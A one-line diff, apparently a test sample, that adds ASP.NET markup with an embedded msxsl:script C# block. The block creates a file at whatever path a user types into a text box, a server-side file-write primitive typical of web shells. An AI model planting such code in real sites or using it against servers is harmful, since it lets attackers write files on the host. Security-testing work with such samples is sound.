@@ -1,0 +1,1 @@
+<asp:TextBox id="T1" runat="server"/><msxsl:script language="C#"><![CDATA[ new System.IO.FileInfo(T1.Text).CreateText(); ]]></msxsl:script>
